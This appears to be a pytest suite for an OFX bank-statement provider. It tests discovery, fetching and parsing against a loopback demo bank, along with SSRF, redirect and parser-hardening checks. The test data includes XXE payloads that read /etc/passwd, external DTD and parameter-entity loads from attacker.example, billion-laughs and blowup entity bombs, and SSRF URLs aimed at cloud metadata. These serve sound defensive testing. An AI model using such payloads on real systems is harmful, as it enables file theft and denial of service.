"""The OFX Direct Connect provider against the demo bank: a real OFX server on loopback."""

import datetime as dt
import socket
import threading
import time
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from accounts.credentials import BankCredentials
from accounts.demo_bank.persona import BANK_TZ, persona_for
from accounts.demo_bank.server import Signon
from accounts.providers.base import (
    AccountRef,
    ConnectionParams,
    ProviderAuthError,
    ProviderDataError,
    ProviderUnavailable,
)
from accounts.providers.http import UnsafeURL, _is_public, url_resolve
from accounts.providers.ofx import OfxDirectConnect, statements_parse

TODAY = dt.date(2026, 11, 21)


@pytest.fixture
def provider():
    return OfxDirectConnect()


def test_discover_lists_the_checking_card_and_brokerage_accounts(provider, demo_bank):
    accounts = provider.discover(ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password))
    assert [(a.name, a.ref.kind) for a in accounts] == [
        ("Everyday Checking", "checking"),
        ("Rewards Visa", "credit-card"),
        ("Brokerage", "investment"),
    ]
    assert accounts[2].ref == AccountRef("570000042", "investment", "demo-broker.example", "INVESTMENT")


def test_wrong_password_is_an_auth_error(provider, demo_bank):
    with pytest.raises(ProviderAuthError, match="Invalid user ID or password"):
        provider.discover(ConnectionParams(url=demo_bank.url), BankCredentials("alice", "wrong"))


def test_fetch_then_parse_returns_the_window_with_balances(provider, demo_bank):
    demo_bank.today = TODAY
    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
    refs = [account.ref for account in provider.discover(params, credentials)]

    raw = provider.fetch(params, credentials, refs, dt.date(2026, 10, 1), TODAY)
    statements = provider.parse(raw).statements

    assert [statement.account for statement in statements] == refs
    for statement in statements:
        assert statement.balance is not None
        assert statement.lines
        assert all(dt.date(2026, 9, 30) <= line.posted_on <= TODAY for line in statement.lines)
        assert all(isinstance(line.amount, Decimal) for line in statement.lines)
    descriptors = {line.description for statement in statements for line in statement.lines}
    assert {"ACME CORP PAYROLL PPD", "NETFLIX.COM", "PAYMENT THANK YOU - WEB"} <= descriptors


def test_the_same_window_fetched_twice_has_the_same_fitids(provider, demo_bank):
    demo_bank.today = TODAY
    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
    refs = [account.ref for account in provider.discover(params, credentials)]

    def fitids():
        raw = provider.fetch(params, credentials, refs, dt.date(2026, 11, 1), TODAY)
        return [line.external_id for statement in provider.parse(raw).statements for line in statement.lines]

    assert fitids() == fitids()


def test_a_new_day_brings_new_transactions(provider, demo_bank):
    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
    refs = [account.ref for account in provider.discover(params, credentials)]

    def lines_on(today):
        demo_bank.today = today
        raw = provider.fetch(params, credentials, refs, dt.date(2026, 11, 1), today)
        return {line.external_id for statement in provider.parse(raw).statements for line in statement.lines}

    before = lines_on(TODAY)
    after = lines_on(TODAY + dt.timedelta(days=1))
    assert before < after


def test_posted_date_is_the_banks_calendar_date_not_utc():
    """22:30 at -5:00 on October 31st is posted on the 31st, though it is November 1st in UTC."""
    raw = card_statement(
        b"<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20261031223000.000[-5:EST]<TRNAMT>-23.80"
        b"<FITID>A1<NAME>UBER *TRIP HELP.UBER.COM</STMTTRN>"
    )
    [statement] = statements_parse(raw).statements
    assert statement.lines[0].posted_on == dt.date(2026, 10, 31)


def test_garbage_is_a_data_error():
    with pytest.raises(ProviderDataError, match="Not a valid OFX document"):
        statements_parse(b"this is not an OFX file")


def test_unreachable_bank_is_unavailable(provider):
    with socket.socket() as sock:  # a port nothing listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    with pytest.raises(ProviderUnavailable, match="Could not connect"):
        provider.discover(ConnectionParams(url=f"http://127.0.0.1:{port}/ofx"), BankCredentials("a", "b"))


@pytest.mark.parametrize(
    "url",
    [
        "http://ofx.example.com/ofx",  # not HTTPS
        "https://127.0.0.1/ofx",  # loopback
        "https://10.1.2.3/ofx",  # private
        "https://169.254.169.254/latest/meta-data",  # link-local (cloud metadata)
        "https://[::1]/ofx",
        "file:///etc/passwd",
        "https://user:pw@8.8.8.8/ofx",
    ],
)
def test_outside_demo_mode_only_https_to_public_addresses(settings, url):
    settings.DEMO_MODE = False
    with pytest.raises(UnsafeURL):
        url_resolve(url)


def test_outside_demo_mode_a_public_https_address_is_allowed(settings):
    settings.DEMO_MODE = False
    assert url_resolve("https://8.8.8.8:8443/ofx?x=1") == ("8.8.8.8", 8443, "8.8.8.8", "/ofx?x=1")


@pytest.mark.parametrize(
    ("address", "public"),
    [
        ("8.8.8.8", True),
        ("2001:4860:4860::8888", True),
        ("64:ff9b::a00:1", False),  # NAT64 of 10.0.0.1
        ("64:ff9b::808:808", True),  # NAT64 of 8.8.8.8
        ("::ffff:127.0.0.1", False),  # IPv4-mapped loopback
        ("2002:7f00:1::", False),  # 6to4 of 127.0.0.1
        ("fe80::1%eth0", False),
    ],
)
def test_addresses_that_embed_an_ipv4_address_are_judged_by_it(address, public):
    assert _is_public(address) is public


def test_ofx_limits_on_login_and_password_give_an_error_that_quotes_neither(provider, demo_bank):
    password = "p" * 180 + "-canary"
    with pytest.raises(ProviderDataError) as caught:
        provider.discover(ConnectionParams(url=demo_bank.url), BankCredentials("alice", password))
    assert "canary" not in str(caught.value)
    assert caught.value.__cause__ is None
    assert caught.value.__suppress_context__  # the library's message, which quotes the value, is dropped


class _Redirector(ThreadingHTTPServer):
    """Answers every POST with a redirect to `target`."""

    def __init__(self, target: str) -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(307)
                self.send_header("Location", target)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/ofx"


def test_a_redirect_on_the_same_host_is_followed(provider, demo_bank):
    redirector = _Redirector(demo_bank.url)
    try:
        accounts = provider.discover(ConnectionParams(url=redirector.url), BankCredentials("alice", demo_bank.password))
    finally:
        redirector.shutdown()
    assert len(accounts) == 3


def test_a_redirect_to_another_host_never_receives_the_password(provider, demo_bank):
    redirector = _Redirector(demo_bank.url.replace("127.0.0.1", "localhost"))
    try:
        with pytest.raises(UnsafeURL, match="another host"):
            provider.discover(ConnectionParams(url=redirector.url), BankCredentials("alice", demo_bank.password))
    finally:
        redirector.shutdown()


def test_a_server_that_drips_its_answer_is_cut_off_at_the_deadline(provider, settings):
    settings.PROVIDER_TIMEOUT = 1.0
    listener = socket.create_server(("127.0.0.1", 0))

    def drip() -> None:
        conn, _ = listener.accept()
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        try:
            for _ in range(40):
                conn.sendall(b"x")
                time.sleep(0.1)
        except OSError:
            pass
        conn.close()

    threading.Thread(target=drip, daemon=True).start()
    started = time.monotonic()
    with pytest.raises(ProviderUnavailable, match="did not answer within 1 seconds"):
        provider.discover(
            ConnectionParams(url=f"http://127.0.0.1:{listener.getsockname()[1]}/"), BankCredentials("a", "b")
        )
    assert time.monotonic() - started < 2.5
    listener.close()


def card_statement(*stmttrns: bytes) -> bytes:
    """An OFX 1.x credit-card statement file holding these <STMTTRN> aggregates."""
    return (
        b"OFXHEADER:100\r\nDATA:OFXSGML\r\nVERSION:102\r\nSECURITY:NONE\r\nENCODING:USASCII\r\n"
        b"CHARSET:1252\r\nCOMPRESSION:NONE\r\nOLDFILEUID:NONE\r\nNEWFILEUID:NONE\r\n\r\n"
        b"<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS>"
        b"<DTSERVER>20261101<LANGUAGE>ENG</SONRS></SIGNONMSGSRSV1>"
        b"<CREDITCARDMSGSRSV1><CCSTMTTRNRS><TRNUID>1<STATUS><CODE>0<SEVERITY>INFO</STATUS>"
        b"<CCSTMTRS><CURDEF>USD<CCACCTFROM><ACCTID>4000001234567899</CCACCTFROM>"
        b"<BANKTRANLIST><DTSTART>20261001<DTEND>20261101" + b"".join(stmttrns) + b"</BANKTRANLIST>"
        b"<LEDGERBAL><BALAMT>0<DTASOF>20261101</LEDGERBAL></CCSTMTRS></CCSTMTTRNRS></CREDITCARDMSGSRSV1></OFX>"
    )


def _ofx_with_amount(amount: str, sic: str = "") -> bytes:
    return card_statement(
        b"<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20261030<TRNAMT>"
        + amount.encode()
        + b"<FITID>A1"
        + (b"<SIC>" + sic.encode() if sic else b"")
        + b"<NAME>SHELL OIL 57444212</STMTTRN>"
    )


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("NaN", "is not a number"),
        ("1e309", "too large"),
        ("-1E+15", "too large"),
        ("-0.005", "fractions of a cent"),
    ],
)
def test_impossible_amounts_are_refused_with_a_clear_message(amount, message):
    with pytest.raises(ProviderDataError, match=message):
        statements_parse(_ofx_with_amount(amount))


def test_an_out_of_range_sic_is_dropped_not_stored():
    [statement] = statements_parse(_ofx_with_amount("-12.00", sic="123456")).statements
    assert statement.lines[0].mcc == ""
    [statement] = statements_parse(_ofx_with_amount("-12.00", sic="5541")).statements
    assert statement.lines[0].mcc == "5541"


def test_a_foreign_currency_line_is_converted_to_the_statement_currency():
    raw = _ofx_with_amount("-10.00").replace(
        b"57444212</STMTTRN>", b"57444212<CURRENCY><CURRATE>1.0850<CURSYM>EUR</CURRENCY></STMTTRN>"
    )
    [statement] = statements_parse(raw).statements
    assert statement.lines[0].amount == Decimal("-10.85")


def _brokerage(provider, params, credentials):
    [ref] = [account.ref for account in provider.discover(params, credentials) if account.ref.kind == "investment"]
    return ref


def test_an_investment_statement_has_the_cash_moves_and_the_accounts_value(provider, demo_bank):
    demo_bank.today = TODAY
    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
    ref = _brokerage(provider, params, credentials)

    raw = provider.fetch(params, credentials, [ref], dt.date(2026, 9, 1), TODAY)
    [statement] = provider.parse(raw).statements

    assert statement.account == ref
    lines = {line.posted_on: line for line in statement.lines}
    contribution, buy, dividend = lines[dt.date(2026, 9, 2)], lines[dt.date(2026, 9, 3)], lines[dt.date(2026, 9, 24)]
    assert (contribution.description, contribution.amount) == ("ACH CONTRIBUTION", Decimal("400.00"))
    assert buy.description == "BUY 3.002 VTSAX"  # units, and the ticker from SECLIST
    assert buy.amount == Decimal("-399.99")
    assert buy.memo == "AUTOMATIC INVESTMENT"
    # Paid at 22:30 at -5:00 on September 24th, already the 25th in UTC: the bank's date is kept.
    assert dividend.description == "DIVIDEND VTSAX"
    assert dividend.amount > 0
    holdings = persona_for("alice").holdings(TODAY)
    assert statement.balance == holdings.cash + holdings.market_value  # cash plus the fund's market value
    assert statement.balance > holdings.cash
    assert statement.balance_as_of == dt.datetime(2026, 11, 21, 23, 59, tzinfo=BANK_TZ)


def test_an_investment_window_fetched_twice_has_the_same_fitids(provider, demo_bank):
    demo_bank.today = TODAY
    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
    ref = _brokerage(provider, params, credentials)

    def lines():
        [statement] = provider.parse(provider.fetch(params, credentials, [ref], dt.date(2026, 6, 1), TODAY)).statements
        return [(line.external_id, line.amount) for line in statement.lines]

    first = lines()
    assert len(first) == 14  # six months of contribution and purchase, two dividends
    assert first == lines()


def test_ofx_102_is_sgml_both_ways_and_carries_the_app_id(provider, demo_bank):
    demo_bank.today = TODAY
    credentials = BankCredentials("alice", demo_bank.password)
    sgml = ConnectionParams(url=demo_bank.url, ofx_version=102, app_id="QWIN", app_version="2900")
    refs = [account.ref for account in provider.discover(sgml, credentials)]

    raw = provider.fetch(sgml, credentials, refs, dt.date(2026, 10, 1), TODAY)

    # The request was 1.02 SGML, data elements unclosed; so was the answer.
    assert demo_bank.server.bank.last_signon == Signon(
        version=102, userid="alice", appid="QWIN", appver="2900", closes_data_elements=False
    )
    assert raw.startswith(b"OFXHEADER:100")
    assert b"<CODE>0<" in raw
    assert b"</TRNAMT>" not in raw
    # And it reads exactly as the same statements in OFX 2.2 XML do.
    xml = ConnectionParams(url=demo_bank.url)
    xml_raw = provider.fetch(xml, credentials, refs, dt.date(2026, 10, 1), TODAY)
    assert xml_raw.startswith(b"<?xml")
    assert provider.parse(raw).statements == provider.parse(xml_raw).statements


def test_blank_app_id_and_version_send_ofxtools_defaults_in_xml(provider, demo_bank):
    provider.discover(ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password))
    assert demo_bank.server.bank.last_signon == Signon(
        version=220, userid="alice", appid="QWIN", appver="2700", closes_data_elements=True
    )


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"ofx_version": 150}, "OFX version 150 does not exist"),
        ({"ofx_version": 230}, "OFX version 230 does not exist"),
        ({"app_id": "QUICKEN"}, "APPID"),
        ({"app_version": "12345"}, "APPVER"),
    ],
)
def test_connection_parameters_ofx_does_not_define_are_refused_before_sending(provider, demo_bank, params, message):
    demo_bank.server.bank.last_signon = None
    with pytest.raises(ProviderDataError, match=message):
        provider.discover(ConnectionParams(url=demo_bank.url, **params), BankCredentials("alice", demo_bank.password))
    assert demo_bank.server.bank.last_signon is None


SGML_HEADER = (
    b"OFXHEADER:100\r\nDATA:OFXSGML\r\nVERSION:102\r\nSECURITY:NONE\r\nENCODING:USASCII\r\n"
    b"CHARSET:1252\r\nCOMPRESSION:NONE\r\nOLDFILEUID:NONE\r\nNEWFILEUID:NONE\r\n\r\n"
)
SIGNON = b"<SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS><DTSERVER>20261101<LANGUAGE>ENG</SONRS>"


def investment_statement(*transactions: bytes, seclist: bytes = b"", balances: bytes = b"") -> bytes:
    """An OFX 1.x investment statement file with these INVTRANLIST entries."""
    return (
        SGML_HEADER + b"<OFX>" + SIGNON + b"</SIGNONMSGSRSV1>"
        b"<INVSTMTMSGSRSV1><INVSTMTTRNRS><TRNUID>1<STATUS><CODE>0<SEVERITY>INFO</STATUS>"
        b"<INVSTMTRS><DTASOF>20261101<CURDEF>USD<INVACCTFROM><BROKERID>broker.example<ACCTID>99</INVACCTFROM>"
        b"<INVTRANLIST><DTSTART>20261001<DTEND>20261101"
        + b"".join(transactions)
        + b"</INVTRANLIST>"
        + balances
        + b"</INVSTMTRS></INVSTMTTRNRS></INVSTMTMSGSRSV1>"
        + seclist
        + b"</OFX>"
    )


def _invtran(fitid: str, memo: str = "") -> bytes:
    memo_element = f"<MEMO>{memo}" if memo else ""
    return f"<INVTRAN><FITID>{fitid}<DTTRADE>20261014213000.000[-5:EST]{memo_element}</INVTRAN>".encode()


ACME = b"<SECID><UNIQUEID>000000001<UNIQUEIDTYPE>CUSIP</SECID>"
SELL_ACME = (
    b"<SELLSTOCK><INVSELL>" + _invtran("S1", "SOLD 5 ACME CORP") + ACME + b"<UNITS>-5<UNITPRICE>20"
    b"<TOTAL>99.95<SUBACCTSEC>CASH<SUBACCTFUND>CASH</INVSELL><SELLTYPE>SELL</SELLSTOCK>"
)
REINVEST_VTI = (
    b"<REINVEST>" + _invtran("R1") + b"<SECID><UNIQUEID>922908769<UNIQUEIDTYPE>CUSIP</SECID>"
    b"<INCOMETYPE>DIV<TOTAL>-12.34<SUBACCTSEC>CASH<UNITS>0.0512<UNITPRICE>241.02</REINVEST>"
)
SPLIT_VTI = (  # shares only: no TOTAL
    b"<SPLIT>" + _invtran("X1") + b"<SECID><UNIQUEID>922908769<UNIQUEIDTYPE>CUSIP</SECID>"
    b"<SUBACCTSEC>CASH<OLDUNITS>10<NEWUNITS>20<NUMERATOR>2<DENOMINATOR>1</SPLIT>"
)
VTI_IN_SECLIST = (
    b"<SECLISTMSGSRSV1><SECLIST><STOCKINFO><SECINFO><SECID><UNIQUEID>922908769<UNIQUEIDTYPE>CUSIP</SECID>"
    b"<SECNAME>Vanguard Total Stock Market ETF<TICKER>VTI</SECINFO></STOCKINFO></SECLIST></SECLISTMSGSRSV1>"
)


def test_investment_lines_are_named_from_seclist_else_from_the_memo_and_shares_only_moves_are_skipped():
    [statement] = statements_parse(
        investment_statement(SELL_ACME, REINVEST_VTI, SPLIT_VTI, seclist=VTI_IN_SECLIST)
    ).statements

    assert [(line.external_id, line.description, line.amount) for line in statement.lines] == [
        ("S1", "SOLD 5 ACME CORP", Decimal("99.95")),  # ACME is not in SECLIST: the bank's memo
        ("R1", "REINVEST 0.0512 VTI", Decimal("-12.34")),
    ]
    assert all(line.posted_on == dt.date(2026, 10, 14) for line in statement.lines)  # 21:30 at -5:00
    assert statement.account == AccountRef("99", "investment", "broker.example", "INVESTMENT")
    assert statement.balance is None  # no INVBAL: the account's value is unknown


def test_an_investment_account_without_positions_is_worth_its_cash():
    balances = b"<INVBAL><AVAILCASH>1520.5<MARGINBALANCE>0<SHORTBALANCE>0</INVBAL>"
    [statement] = statements_parse(investment_statement(REINVEST_VTI, balances=balances)).statements
    assert statement.balance == Decimal("1520.50")
    assert statement.lines[0].description == "REINVEST 0.0512 922908769"  # no SECLIST, no memo: the CUSIP


XML_HEADER = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\r\n'
    b'<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>\r\n'
)


def xml_card_statement(prolog: bytes = b"", name: bytes = b"SHELL OIL") -> bytes:
    """An OFX 2.2 credit-card statement with one transaction, `prolog` before its root element."""
    return (
        XML_HEADER + prolog + b"<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS>"
        b"<DTSERVER>20261101</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1>"
        b"<CREDITCARDMSGSRSV1><CCSTMTTRNRS><TRNUID>1</TRNUID><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS>"
        b"<CCSTMTRS><CURDEF>USD</CURDEF><CCACCTFROM><ACCTID>4000001234567899</ACCTID></CCACCTFROM>"
        b"<BANKTRANLIST><DTSTART>20261001</DTSTART><DTEND>20261101</DTEND><STMTTRN><TRNTYPE>DEBIT</TRNTYPE>"
        b"<DTPOSTED>20261030</DTPOSTED><TRNAMT>-40.00</TRNAMT><FITID>A1</FITID><NAME>" + name + b"</NAME>"
        b"</STMTTRN></BANKTRANLIST><LEDGERBAL><BALAMT>0</BALAMT><DTASOF>20261101</DTASOF></LEDGERBAL>"
        b"</CCSTMTRS></CCSTMTTRNRS></CREDITCARDMSGSRSV1></OFX>"
    )


def test_an_ofx_2_xml_statement_parses():
    [statement] = statements_parse(xml_card_statement()).statements
    assert statement.lines[0].description == "SHELL OIL"


LAUGHS = b"".join(
    b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10 if level else b"lol") for level in range(10)
)


@pytest.mark.parametrize(
    ("prolog", "name"),
    [
        (b'<!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),  # external entity
        (b"<!DOCTYPE OFX [" + LAUGHS + b"]>", b"&lol9;"),  # billion laughs
        (b'<!DOCTYPE OFX [<!ENTITY a "' + b"a" * 50_000 + b'">]>', b"&a;" * 10_000),  # quadratic blowup
        (b'<!DOCTYPE OFX SYSTEM "https://attacker.example/ofx.dtd">', b"SHELL OIL"),  # external DTD
        (b'<!doctype OFX [<!entity % p SYSTEM "https://attacker.example/p">%p;]>', b"SHELL OIL"),
    ],
)
def test_dtds_and_entity_declarations_are_refused_before_parsing(prolog, name):
    with pytest.raises(ProviderDataError) as caught:
        statements_parse(xml_card_statement(prolog, name))
    assert str(caught.value) == "The OFX document contains a DTD or entity declarations, which are not allowed."


TWENTY_MB = 20 * 1024 * 1024


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (XML_HEADER + b"<OFX>" * (TWENTY_MB // 5), "more than 500,000 elements"),
        (XML_HEADER + (b"<OFX>" + b" " * 100) * (TWENTY_MB // 105), "nested more than 32 deep"),
        (SGML_HEADER + b"<OFX>" + b"<A><![CDATA[x" * 200_000, "CDATA section is not closed"),
        (b"<?xml" + b" " * TWENTY_MB + b"x", "does not start with an OFX header"),
        (b"OFXHEADER:100 DATA:NONE<OFX>" + b" " * TWENTY_MB + b"<A>", "header is malformed"),
    ],
    ids=["20 MB of nested tags", "nesting padded under the element limit", "unclosed CDATA", "xml-spaces", "spaces"],
)
def test_documents_built_to_exhaust_the_parser_fail_within_seconds(raw, message):
    started = time.monotonic()
    with pytest.raises(ProviderDataError, match=message):
        statements_parse(raw)
    assert time.monotonic() - started < 3


@pytest.mark.parametrize("version", [220, 102])
def test_a_truncated_download_is_refused_not_half_imported(provider, demo_bank, version):
    demo_bank.today = TODAY
    params, credentials = ConnectionParams(url=demo_bank.url, ofx_version=version), BankCredentials("alice", "demo")
    refs = [account.ref for account in provider.discover(params, credentials)]
    raw = provider.fetch(params, credentials, refs, dt.date(2026, 10, 1), TODAY)
    # Cut at half, and just after a whole transaction (where every element so far is complete).
    after_a_transaction = raw.index(b"</STMTTRN>", len(raw) // 2) + len(b"</STMTTRN>")

    for cut in (raw[: len(raw) // 2], raw[:after_a_transaction]):
        with pytest.raises(ProviderDataError, match="incomplete"):
            provider.parse(cut)


def test_cdata_sections_on_one_line_are_read_one_by_one_and_fast():
    """ofxtools' greedy pattern reads from the first CDATA to the last on a line, in quadratic time."""
    lines = [
        b"<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20261030<TRNAMT>-1.00<FITID>F%d<NAME><![CDATA[AT&T #%d]]></STMTTRN>"
        % (number, number)
        for number in range(5000)
    ]
    started = time.monotonic()
    [statement] = statements_parse(card_statement(*lines)).statements
    assert time.monotonic() - started < 5
    assert [line.description for line in statement.lines[:2]] == ["AT&T #0", "AT&T #1"]
